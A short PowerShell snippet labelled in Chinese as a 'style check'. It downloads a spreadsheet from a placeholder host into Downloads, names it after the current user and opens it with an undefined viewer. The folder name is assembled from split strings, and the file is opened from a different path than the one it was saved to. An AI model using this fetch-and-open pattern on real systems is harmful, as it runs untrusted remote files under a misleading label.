# 样式检查
$name = "{0}{1}" -f $env:USERNAME, ".xlsx"
$folder = "Down" + "loads"
Invoke-WebRequest "https://style.biaoge.example/latest.xlsx" -OutFile (Join-Path $folder $name)
& $viewer $name
